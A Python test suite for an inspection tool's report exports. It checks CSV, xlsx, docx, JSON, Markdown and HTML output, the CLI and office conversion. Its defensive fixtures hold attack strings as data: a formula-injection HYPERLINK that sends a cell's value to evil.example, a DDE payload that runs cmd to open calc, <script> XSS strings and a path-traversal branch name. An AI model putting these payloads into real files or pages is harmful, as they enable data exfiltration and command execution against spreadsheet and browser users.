"""Exports (issue 5): every format drawn from the one Summary model, read back by its real client.

- Golden files for md, csv and json from the finished sample session (tests/golden/; regenerate
  with INSPECT_TUI_UPDATE_GOLDEN=1 after a deliberate change, and read the diff).
- xlsx and docx opened again with openpyxl and python-docx; the CSV parsed back and compared with
  the model row by row; JSON validated against docs/export-schema.json.
- Hostile and awkward input: <script> and & in names and notes, formula injection, a note of
  5,000 Chinese characters, a branch called ../第一/支部, an empty session, everything N/A.
- The CLI end to end; LibreOffice and Chromium converting the files, where they are installed.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest

from inspect_tui.core.checklist import catalog
from inspect_tui.core.export import (
    FORMATS, WHATS, build_summary, export_session, name_for, render, safe_filename, write_unused,
)
from inspect_tui.core.export.common import ITEM_COLUMNS, RECT_COLUMNS, STATES, headers, num, score_line
from inspect_tui.core.export.common import width as cjk_width
from inspect_tui.core.export.model import Summary
from inspect_tui.core.session.repository import SessionRepository

from .conftest import REPO, run_cli

GOLDEN = Path(__file__).parent / "golden"
SCHEMA = json.loads((REPO / "docs" / "export-schema.json").read_text(encoding="utf-8"))
FINISHED = "c567b521c9b4"
HOSTILE_BRANCH = '<script>alert("x")</script> & 第一支部'
HOSTILE_NOTE = "<script>alert(1)</script> & <b>粗体</b> \"引号\" 'single'"
INJECTIONS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-2", "\t=1+1"]
LONG_NOTE = ("党支部按期换届材料不全、会议记录缺签名。" * 250)[:5000]


# -- fixtures -------------------------------------------------------------------------------------

@pytest.fixture
def samples(tmp_path: Path) -> SessionRepository:
    target = tmp_path / "samples"
    shutil.copytree(REPO / "sessions", target)
    return SessionRepository(target)


@pytest.fixture
def finished(samples: SessionRepository) -> Summary:
    with samples.open(FINISHED, write=False) as opened:
        return build_summary(opened.session)


def make(repo_dir: Path, checklist_id: str, branch: str, marks: dict[str, dict] | None = None,
         all_states: str | None = None) -> Summary:
    """A session made through the real API; `marks` item → answer fields, or every leaf `all_states`."""
    repo = SessionRepository(repo_dir)
    checklist = catalog.find(checklist_id)
    with repo.create(checklist, branch, "某某单位党委", ["张三", "李四"], dt.date(2026, 3, 9), "党员活动室") as opened:
        if all_states:
            for item in checklist.leaves():
                opened.set_answer(item.id, "张三", state=all_states)
        for item_id, fields in (marks or {}).items():
            opened.set_answer(item_id, "张三", **fields)
        return build_summary(opened.session)


def manual_leaves(checklist_id: str) -> list[str]:
    return [item.id for item in catalog.find(checklist_id).leaves() if not item.computed]


@pytest.fixture
def hostile(tmp_path: Path) -> Summary:
    ids = manual_leaves("jiguan")
    marks = {ids[0]: {"state": "fail", "note": HOSTILE_NOTE}, ids[1]: {"state": "fail", "note": LONG_NOTE}}
    marks.update({item: {"state": "fail", "note": note} for item, note in zip(ids[2:], INJECTIONS)})
    return make(tmp_path / "s", "jiguan", HOSTILE_BRANCH, marks)


EDGES = {
    "empty": lambda d: make(d, "shequ", "空白支部"),
    "all_na_scored": lambda d: make(d, "gongxing", "全部不适用支部", all_states="na"),
    "all_na_unscored": lambda d: make(d, "liutiao", "全部不适用支部", all_states="na"),
    "long_note": lambda d: make(d, "jiguan", "长备注支部", {manual_leaves("jiguan")[0]: {"state": "fail", "note": LONG_NOTE}}),
    "slash_branch": lambda d: make(d, "wuge", "../第一/支部:*?..", all_states="pass"),
}


# -- readers ----------------------------------------------------------------------------------------

def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel on Chinese Windows needs the BOM"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def until_blank(rows: list[list[str]]) -> list[list[str]]:
    """The first table of a CSV: the rows before the first empty one (基本情况 and 自查 follow)."""
    return rows[:rows.index([])] if [] in rows else rows


def xlsx(data: bytes):
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(data))


def sheet_table(tables: list[list[list[str]]], first: str) -> list[list[str]]:
    """The table whose header row begins with `first` (基本情况 comes before the findings)."""
    (table,) = [t for t in tables if t[0][0] == first and t[0][1] != "填报情况"]
    return table


def docx_text(data: bytes) -> tuple[list[str], list[list[list[str]]]]:
    from docx import Document

    doc = Document(io.BytesIO(data))
    tables = [[[cell.text for cell in row.cells] for row in table.rows] for table in doc.tables]
    return [p.text for p in doc.paragraphs], tables


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def html_read(data: bytes) -> _Text:
    parser = _Text()
    parser.feed(data.decode("utf-8"))
    return parser


def check_schema(data: bytes) -> dict:
    import jsonschema

    document = json.loads(data)
    jsonschema.validate(document, SCHEMA)
    return document


def number_cell(value):
    return "" if value is None else num(value) if not isinstance(value, (int, float)) else str(value)


# -- golden files -----------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["md", "csv", "json"])
@pytest.mark.parametrize("what", WHATS)
def test_golden(finished, fmt, what):
    data = render(finished, fmt, what)
    path = GOLDEN / f"{FINISHED}.{what}.{fmt}"
    if os.environ.get("INSPECT_TUI_UPDATE_GOLDEN"):
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
    assert data == path.read_bytes(), f"{path.name} changed; if on purpose, regenerate and review the diff"
    assert render(finished, fmt, what) == data  # no clock, no randomness


@pytest.mark.parametrize("fmt", ["md", "csv", "json"])
@pytest.mark.parametrize("what", WHATS)
def test_golden_english(finished, fmt, what):
    """`--lang en`: the document's own words in English, the standard's text as written; only the
    English files are rewritten by INSPECT_TUI_UPDATE_GOLDEN (the Chinese ones are pinned above)."""
    data = render(finished, fmt, what, lang="en")
    path = GOLDEN / f"{FINISHED}.{what}.en.{fmt}"
    if os.environ.get("INSPECT_TUI_UPDATE_GOLDEN"):
        path.write_bytes(data)
    assert data == path.read_bytes(), f"{path.name} changed; if on purpose, regenerate and review the diff"
    assert data != render(finished, fmt, what), "the English document is the Chinese one"
    if fmt == "json":  # the keys are the schema's in every language
        check_schema(data)


def test_english_documents_keep_the_standard_and_drop_our_chinese(finished):
    """Every format in English: our words English (no 符合/扣分/整改通知书 of ours), the item texts
    and fact labels of the standard still there, dates ISO, html lang="en"."""
    ours = ("符合", "扣分", "整改通知书", "检查人员", "基本情况", "未检查", "考评表", "合计", "第 ", "已完成")
    for fmt in FORMATS:
        for what in WHATS:
            data = render(finished, fmt, what, lang="en")
            text = {"xlsx": xlsx_text, "docx": docx_all_text}.get(fmt, lambda d: d.decode("utf-8-sig"))(data)
            assert fmt == "csv" or "2026-06-15" in text, (fmt, what)  # a CSV has no header
            leaked = [word for word in (*ours, "2026年") if word in _without_standard(text, finished)]
            assert not leaked, (fmt, what, leaked)
    page = render(finished, "html", lang="en").decode("utf-8")
    assert '<html lang="en">' in page and finished.items[0].text in page


def _without_standard(text: str, summary: Summary) -> str:
    """`text` less the standard's own words (items, clauses, guidance, facts, findings, notes)."""
    pieces = [summary.header.checklist_title, summary.checklist_note, summary.header.branch,
              summary.header.unit, summary.header.place, *summary.header.inspectors]
    for row in summary.items:
        pieces += [row.text, row.guidance, row.note, *row.path, *row.findings, *row.warnings, *row.pending,
                   *row.evidence, row.override_reason]
        pieces += [part for r in row.reasons for part in (r.clause, r.detail, r.finding)]
    pieces += [s.title for s in summary.sections] + [f.label for f in summary.facts]
    pieces += [f.text for f in summary.facts if f.entered and f.type != "date"] + [f.unit for f in summary.facts]
    pieces += [part for r in summary.rectification for part in (r.found, r.requirement)]
    chinese = [p for p in pieces if p and re.search("[\u4e00-\u9fff]", p)]  # digits and ids stay
    for piece in sorted(chinese, key=len, reverse=True):
        text = text.replace(piece, " ")
    return text


def xlsx_text(data: bytes) -> str:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))
    out = []
    for ws in book.worksheets:
        out += [ws.title, ws.oddHeader.center.text or "", ws.oddFooter.center.text or ""]
        out += ["\t".join("" if v is None else str(v) for v in row) for row in ws.iter_rows(values_only=True)]
    return "\n".join(out)


def docx_all_text(data: bytes) -> str:
    import docx

    document = docx.Document(io.BytesIO(data))
    parts = [document.core_properties.title or ""]
    for section in document.sections:
        parts += [p.text for p in (*section.header.paragraphs, *section.footer.paragraphs)]
    parts += ["".join(t.text or "" for t in node.iter() if t.tag.endswith("}t"))
              for node in document.element.body.iter() if node.tag.endswith("}p")]
    return "\n".join(parts)


def test_json_is_the_whole_model_and_valid(finished):
    document = check_schema(render(finished, "json"))
    assert document["schema_version"] == 1 and document["document"] == "summary"
    assert (document["total"], document["max"], document["deducted"]) == (20, 28, 8)
    assert isinstance(document["total"], int) and isinstance(document["percent"], float)
    assert [i["id"] for i in document["items"]] == [i.id for i in finished.items]
    assert document["failed"] == [r.id for r in finished.failed] and len(document["rectification"]) == 4
    rect = check_schema(render(finished, "json", "rectification"))
    # the deadline is the notice date (the inspection's, 2026-06-15) + the 30 days of the notice period
    assert rect["document"] == "rectification" and rect["rectification"][0]["deadline"] == "2026-07-15"
    assert rect["notice"] == {"issuer": "", "date": "2026-06-15", "days": 30, "report_by": "2026-07-15"}


# -- CSV ----------------------------------------------------------------------------------------------

def test_csv_parses_back_to_the_model(finished):
    every = csv_rows(render(finished, "csv"))
    rows = until_blank(every)
    assert rows[0] == headers(ITEM_COLUMNS)
    # the items, then after an empty row the score line the other formats print (then 基本情况)
    assert len(rows) == len(finished.items) + 1
    assert every[len(rows)] == [] and every[len(rows) + 1] == ["得分", score_line(finished)]
    index = {name: i for i, name in enumerate(headers(ITEM_COLUMNS))}
    for row, item in zip(rows[1:], finished.items):
        assert row[index["编号"]] == item.id
        assert row[index["检查项"]] == item.text
        assert row[index["结果"]] == STATES[item.state]
        assert row[index["分值"]] == number_cell(item.max)
        assert row[index["扣分"]] == number_cell(item.deducted)
        assert row[index["备注"]] == item.note
    lost = sum(float(r[index["扣分"]]) for r, i in zip(rows[1:], finished.items) if i.leaf)
    assert lost == float(finished.scores.deducted)
    rect = until_blank(csv_rows(render(finished, "csv", "rectification")))
    assert rect[0] == headers(RECT_COLUMNS) and len(rect) == 5


def test_csv_neutralises_formulas(hostile):
    rows = csv_rows(render(hostile, "csv"))
    notes = [row[headers(ITEM_COLUMNS).index("备注")] for row in until_blank(rows)[1:]]
    for injection in INJECTIONS:
        assert "'" + injection in notes
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)
    assert LONG_NOTE in notes  # 5,000 characters, whole


# -- xlsx -----------------------------------------------------------------------------------------------

def test_xlsx_reads_back(finished):
    book = xlsx(render(finished, "xlsx"))
    assert book.sheetnames[:2] == ["扣分汇总", "明细"]
    summary = book["扣分汇总"]
    assert summary.freeze_panes == "A2"
    header = [c.value for c in summary[1]]
    assert header[:4] == ["大项", "满分", "扣分", "得分"]
    rows = [[c.value for c in row] for row in summary.iter_rows(min_row=2)]
    assert [r[:4] for r in rows] == [["组织设置规范", 12, 4, 8], ["队伍建设规范", 16, 4, 12], ["合计", 28, 8, 20]]
    assert all(isinstance(v, int) for v in rows[-1][1:8])
    assert summary["A4"].font.b  # the total stands out
    detail = book["明细"]
    assert detail.freeze_panes == "A2" and detail.auto_filter.ref
    head = [c.value for c in detail[1]]
    assert head == headers(ITEM_COLUMNS)
    body = list(detail.iter_rows(min_row=2, values_only=True))
    assert len(body) == len(finished.items)
    lost = sum(r[head.index("扣分")] for r, item in zip(body, finished.items) if item.leaf)
    assert lost == 8 and all(isinstance(r[head.index("扣分")], int) for r in body)
    # widths count a CJK character as two: 检查项 is wider than the latin 编号 it sits beside
    width = {c.value: detail.column_dimensions[c.column_letter].width for c in detail[1]}
    assert width["检查项"] >= 2 * len("①党组织类型·社区层面") and width["结果"] >= 2 * len("不符合")
    long = [c for row in detail.iter_rows(min_row=2) for c in row
            if isinstance(c.value, str) and cjk_width(c.value) > detail.column_dimensions[c.column_letter].width]
    assert long and all(c.alignment.wrap_text and detail.row_dimensions[c.row].height > 15 for c in long)
    info = {r[0]: r[1] for r in book["检查信息"].iter_rows(min_row=2, values_only=True)}
    assert info["单位/支部"] == "幸福社区第一网格党支部(幸福社区党委)" and info["检查人员"] == "张三、李四"


def test_xlsx_stores_text_as_text(hostile):
    data = render(hostile, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or "<f " in s for s in sheets), "a note became a formula"
    cells = [c for row in xlsx(data)["明细"].iter_rows() for c in row if c.value is not None]
    values = {c.value for c in cells}
    assert {*INJECTIONS, HOSTILE_NOTE, LONG_NOTE} <= values
    assert all(c.data_type == "s" for c in cells if c.value in INJECTIONS)


def test_xlsx_many_sessions_in_one_workbook(samples, finished):
    from inspect_tui.core.export.many import summaries
    from inspect_tui.core.export.xlsx import SAMPLE, render_many

    ids = [FINISHED, "5c8e8150773a"] * (SAMPLE // 2 + 2)  # more than the sizing sample
    built = list(summaries(samples.folder, ids, parallel=False))
    book = xlsx(render_many(built))
    overview = list(book["汇总"].iter_rows(values_only=True))
    assert len(overview) == len(ids) + 1 and overview[1][1] == "幸福社区第一网格党支部"
    head = overview[0]
    assert overview[1][head.index("得分")] == 20 and overview[2][head.index("得分")] is None  # unscored
    detail = list(book["明细"].iter_rows(values_only=True))
    assert len(detail) == 1 + sum(len(s.items) for s in built)
    assert book["明细"].freeze_panes == "A2"
    rect = list(xlsx(render_many(built, "rectification"))["整改清单"].iter_rows(values_only=True))
    assert len(rect) == 1 + sum(len(s.rectification) for s in built)
    # built in a worker process, the summaries are the same
    assert list(summaries(samples.folder, ids[:3], parallel=True)) == built[:3]


# -- docx -----------------------------------------------------------------------------------------------

def test_docx_score_sheet(finished):
    paragraphs, tables = docx_text(render(finished, "docx"))
    text = "\n".join(paragraphs)
    assert "考评表" in paragraphs[0] and finished.header.checklist_title in paragraphs[0]
    sheet = sheet_table(tables, "项目")
    for expected in ("单位/支部:幸福社区第一网格党支部(幸福社区党委)", "检查日期:2026年6月15日", "检查地点:幸福社区党群服务中心",
                     "检查人员:张三、李四", "总分 20 分(满分 28 分,扣 8 分)", "检查人员:(签字时未记录姓名)　　签名:", "日期:"):
        assert expected in text, expected
    assert sheet[0] == ["项目", "内容", "分值", "扣分", "扣分原因", "备注"]
    assert sheet[-1][0] == "合计" and sheet[-1][2:4] == ["28", "8"] and "得分 20" in sheet[-1][4]
    assert sheet[1][0] == "组织设置规范(12分)" == sheet[2][0]  # the section's cell spans its rows
    failed = [row for row in sheet if "第六网格与第七网格" in row[5]]
    assert failed and failed[0][3] == "2" and "网格党支部设置不规范" in failed[0][4]


def test_docx_rectification_notice(finished):
    paragraphs, tables = docx_text(render(finished, "docx", "rectification"))
    assert paragraphs[0] == "整改通知书" and paragraphs[1] == "幸福社区第一网格党支部:"
    table = sheet_table(tables, "序号")
    assert table[0] == ["序号", "检查项目", "发现问题", "标准要求", "整改期限"]
    assert [row[0] for row in table[1:]] == ["1", "2", "3", "4"]
    assert all("年" in row[4] and "月" in row[4] for row in table[1:])  # a blank to fill in
    assert any("签收" in p for p in paragraphs)


# -- html -----------------------------------------------------------------------------------------------

def test_html_escapes_everything(hostile, tmp_path):
    for what in WHATS:
        data = render(hostile, "html", what).decode("utf-8")
        assert "<script" not in data.lower(), "raw <script> in the page"
        assert "&lt;script&gt;" in data and "&amp;" in data
        assert not re.search(r"\b(src|href)=", data), "nothing is fetched"
        assert "default-src 'none'" in data and "@media print" in data
        page = html_read(data.encode())
        assert "script" not in page.tags and HOSTILE_BRANCH in "".join(page.text)
    page = html_read(render(hostile, "html"))
    assert HOSTILE_NOTE in "".join(page.text) and LONG_NOTE in "".join(page.text)


def test_markdown_keeps_the_branch_inert(hostile):
    text = render(hostile, "md").decode("utf-8")
    assert "<script>" not in text and "\\<script\\>" in text


# -- awkward sessions, every format -------------------------------------------------------------------

@pytest.mark.parametrize("edge", sorted(EDGES))
def test_every_format_reads_right(edge, tmp_path):
    summary = EDGES[edge](tmp_path / "s")
    for fmt in FORMATS:
        for what in WHATS:
            data = render(summary, fmt, what)
            assert data, (fmt, what)
            if fmt == "json":
                check_schema(data)
            elif fmt == "csv":
                rows = until_blank(csv_rows(data))
                assert len(rows) == 1 + (len(summary.items) if what == "summary" else len(summary.rectification))
            elif fmt == "xlsx":
                book = xlsx(data)
                assert book.worksheets[0].freeze_panes == "A2"
            elif fmt == "docx":
                paragraphs, tables = docx_text(data)
                assert paragraphs[0]
            elif fmt == "html":
                assert summary.header.branch.replace("&", "&amp;") in data.decode()
    c = summary.scores.counts
    if edge == "empty":
        assert c["unanswered"] == len(summary.unanswered) > 0 and not summary.rectification
        assert "本次检查没有需要整改的事项" in "\n".join(docx_text(render(summary, "docx", "rectification"))[0])
        totals = list(xlsx(render(summary, "xlsx"))["扣分汇总"].iter_rows(values_only=True))[-1]
        assert totals[:4] == ("合计", 28, 0, 28)
    if edge.startswith("all_na"):
        assert c["na"] == len(summary.not_applicable) > 0 and c["pass"] == c["fail"] == 0
        assert summary.scores.max == 0 and summary.scores.percent is None
        assert "不适用" in render(summary, "md").decode()
        assert json.loads(render(summary, "json"))["percent"] is None
    if edge == "long_note":
        assert any(LONG_NOTE in row[5] for row in sheet_table(docx_text(render(summary, "docx"))[1], "项目"))
        assert LONG_NOTE in {c.value for row in xlsx(render(summary, "xlsx"))["明细"].iter_rows() for c in row}
    if edge == "slash_branch":
        target = tmp_path / "out"
        target.mkdir()
        with SessionRepository(tmp_path / "s").open(summary.header.id, write=False) as opened:
            for fmt in FORMATS:
                path = export_session(opened.session, fmt, target)
                assert path.parent == target and path.name.startswith("第一_支部"), path.name
        assert sorted(p.suffix for p in target.iterdir()) == sorted(f".{f}" for f in FORMATS)


# -- names and files -----------------------------------------------------------------------------------

def test_safe_filenames():
    assert safe_filename("../第一/支部:*?..") == "第一_支部"
    assert safe_filename("..") == safe_filename("") == "inspection"
    assert safe_filename("CON") == "_CON" and safe_filename("a\x00b\tc") == "a_b_c"
    long = name_for("很" * 300, "2026-03-09", "rectification", "docx")
    assert len(f".{long}-9999.partial-4194304-abcdef".encode("utf-8")) <= 255  # the temporary file too
    for name in (long, name_for("a/b\\c:d*e?f\"g<h>i|j", "2026-03-09", "summary", "md")):
        assert not set('/\\:*?"<>|') & set(name)


def test_write_unused_never_replaces(tmp_path):
    first = tmp_path / "报告.md"
    first.write_text("原有内容", encoding="utf-8")
    assert write_unused(first, b"new") == tmp_path / "报告-2.md"
    assert write_unused(first, b"newer") == tmp_path / "报告-3.md"
    assert first.read_text(encoding="utf-8") == "原有内容"
    dangling = tmp_path / "链接.md"
    dangling.symlink_to(tmp_path / "别处" / "不存在.md")
    assert write_unused(dangling, b"x") == tmp_path / "链接-2.md"  # never written through a link
    assert not (tmp_path / "别处").exists()
    assert not [p for p in tmp_path.iterdir() if "partial" in p.name]


def test_heavy_libraries_load_only_for_their_format(samples):
    code = (
        "import sys\nfrom inspect_tui.core.export import render, build_summary\n"
        "from inspect_tui.core.export import xlsx, docx, html, csv_, json_, markdown, many\n"
        "from inspect_tui.core.session.repository import SessionRepository\n"
        f"s = build_summary(SessionRepository({str(samples.folder)!r}).open('c567', write=False).session)\n"
        "for f in ('md', 'csv', 'json', 'html'): render(s, f)\n"
        "print(sorted(m for m in sys.modules if m.split('.')[0] in ('openpyxl', 'docx', 'lxml', 'textual')))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True,
                         env={**os.environ, "PYTHONPATH": str(Path(__import__("inspect_tui").__file__).parents[1])})
    assert out.stdout.strip() == "[]"


# -- the CLI --------------------------------------------------------------------------------------------

def test_cli_exports_several_sessions_to_a_folder(samples, tmp_path):
    out = tmp_path / "新建/文件夹"
    missing = run_cli("--sessions", str(samples.folder), "export", "c567", "5c8e", "-f", "docx", "-o", str(out))
    assert missing.returncode == 2 and str(out) in missing.stderr and not (tmp_path / "新建").exists()
    out.mkdir(parents=True)
    done = run_cli("--sessions", str(samples.folder), "export", "c567", "5c8e", "--format", "docx", "-o", str(out))
    assert done.returncode == 0, done.stderr
    written = [Path(line) for line in done.stdout.splitlines()]
    assert sorted(p.name for p in written) == ["县财政局机关第二党支部_2026-11-20_检查汇总.docx",
                                               "幸福社区第一网格党支部_2026-06-15_检查汇总.docx"]
    before = {p: p.read_bytes() for p in written}
    again = run_cli("--sessions", str(samples.folder), "export", "c567", "5c8e", "-f", "docx", "-o", str(out))
    assert again.returncode == 0 and all("-2.docx" in line for line in again.stdout.splitlines())
    assert all(p.read_bytes() == data for p, data in before.items())  # nothing replaced


def test_cli_default_name_in_the_exports_folder_and_single_workbook(samples, tmp_path):
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    exports = Path(os.environ["INSPECT_TUI_EXPORTS"])  # tests/conftest.py: a temporary folder
    for _ in range(2):
        done = run_cli("--sessions", str(samples.folder), "export", FINISHED, "--what", "rectification", cwd=cwd)
        assert done.returncode == 0, done.stderr
    assert list(cwd.iterdir()) == []  # not the folder it was started from
    assert sorted(p.name for p in exports.iterdir()) == ["幸福社区第一网格党支部_2026-06-15_整改通知书-2.md",
                                                     "幸福社区第一网格党支部_2026-06-15_整改通知书.md"]
    done = run_cli("--sessions", str(samples.folder), "export", "c567", "5c8e", "-o", str(cwd / "全部.xlsx"))
    assert done.returncode == 0, done.stderr
    book = xlsx((cwd / "全部.xlsx").read_bytes())
    assert book.sheetnames == ["汇总", "明细"] and book["汇总"].max_row == 3


@pytest.mark.parametrize("extra, message", [
    (["--format", "pdf"], "pdf"),
    (["-o", "{file}"], "-o"),
    (["-o", "{file}/子目录"], "{file}"),
    (["nosuchsession"], "nosuchsession"),
])
def test_cli_bad_input_is_one_line_and_exit_2(samples, tmp_path, extra, message):
    blocker = tmp_path / "一个文件.md"
    blocker.write_text("x", encoding="utf-8")
    args = [a.replace("{file}", str(blocker)) for a in extra]
    done = run_cli("--sessions", str(samples.folder), "export", "c567", "5c8e", *args, cwd=tmp_path)
    assert done.returncode == 2, (done.stdout, done.stderr)
    assert len(done.stderr.strip().splitlines()) == 1 and "Traceback" not in done.stderr
    assert message.replace("{file}", str(blocker)) in done.stderr
    assert blocker.read_text(encoding="utf-8") == "x" and done.stdout == ""


# -- the real clients ----------------------------------------------------------------------------------

def _office() -> str | None:
    return shutil.which("libreoffice") or shutil.which("soffice")


def _chromium() -> str | None:
    return next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)


def _is_pdf(path: Path) -> bool:
    return path.is_file() and path.stat().st_size > 1000 and path.read_bytes()[:5] == b"%PDF-"


@pytest.mark.skipif(_office() is None, reason="LibreOffice is not installed (libreoffice/soffice not on PATH)")
@pytest.mark.parametrize("fmt, what", [("xlsx", "summary"), ("docx", "summary"), ("docx", "rectification"), ("xlsx", "rectification")])
def test_libreoffice_converts(finished, tmp_path, fmt, what, office_profile):
    source = tmp_path / f"export.{fmt}"
    source.write_bytes(render(finished, fmt, what))
    out = tmp_path / "pdf"
    profile = office_profile  # this worker's own profile: no clash with a running office or another worker
    done = subprocess.run([_office(), f"-env:UserInstallation={profile}", "--headless", "--convert-to", "pdf",
                           "--outdir", str(out), str(source)], capture_output=True, text=True, timeout=240)
    assert done.returncode == 0, done.stderr
    assert _is_pdf(out / "export.pdf"), (done.stdout, done.stderr)


@pytest.mark.skipif(_chromium() is None, reason="Chromium is not installed (chromium/chromium-browser/google-chrome not on PATH)")
@pytest.mark.parametrize("what", WHATS)
def test_chromium_renders_html(hostile, tmp_path, what):
    page = tmp_path / "export.html"
    page.write_bytes(render(hostile, "html", what))
    pdf = tmp_path / "export.pdf"
    done = subprocess.run([
        _chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--no-first-run", f"--user-data-dir={tmp_path / 'profile'}",
        f"--print-to-pdf={pdf}", page.as_uri(),
    ], capture_output=True, text=True, timeout=120)
    assert _is_pdf(pdf), (done.returncode, done.stderr[-2000:])
